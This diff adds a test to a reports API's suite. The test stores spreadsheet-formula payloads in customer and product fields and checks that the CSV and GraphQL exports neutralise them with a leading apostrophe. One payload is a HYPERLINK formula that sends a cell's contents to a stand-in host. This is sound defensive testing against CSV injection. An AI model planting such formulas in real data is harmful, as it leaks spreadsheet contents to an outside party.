@@ -192,3 +192,32 @@ describe('reports as data (GraphQL)', () => {
     expect(all.body.data!.reportBranchOptions.branches.map((b: Loose) => b.code)).toEqual(expect.arrayContaining([17, 18]));
   });
 });
+
+describe('CSV injection (OWASP): text that a spreadsheet would run comes out inert', () => {
+  const FORMULA = '=HYPERLINK("http://x/?"&A1,"c")';
+
+  it('in /reports/2.csv, /reports/7.csv and reportRows, while numbers stay numbers', async () => {
+    const customer = (await stack.api.get('clientes/?page_size=1')).results[0];
+    await stack.api.put(`clientes/${customer.id}/`, { ...customer, cliente: FORMULA });
+    const product = (await stack.api.get('produtos/?codfilial=17&page_size=1')).results[0];
+    await stack.api.put(`produtos/${product.id}/`, { ...product, descricao: '@SUM(1+1)' });
+
+    const customers = rowsOf((await csv('1001', '/reports/2.csv')).body);
+    const named = customers.find((cells) => cells[0] === String(customer.id))!;
+    expect(named[2]).toBe(`'${FORMULA}`);
+    // Money the gateway formats itself is still money.
+    expect(named[10]).toMatch(/^(R\$\u00a0[\d.]+,\d{2})?$/);
+    const products = rowsOf((await csv('1001', '/reports/7.csv?filial=17')).body);
+    expect(products.find((cells) => cells[1] === String(product.codprod))![3]).toBe("'@SUM(1+1)");
+    for (const cells of [...customers.slice(1), ...products.slice(1)]) {
+      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+
+    const rows = await clients['1001'].query(
+      'query { reportRows(index: 2, parameters: {}, pageSize: -1) { items { values } } }',
+    );
+    expect(rows.body.errors).toBeUndefined();
+    const values: (string | null)[] = rows.body.data!.reportRows.items.find((i: Loose) => i.values[0] === String(customer.id)).values;
+    expect(values[2]).toBe(`'${FORMULA}`);
+  });
+});
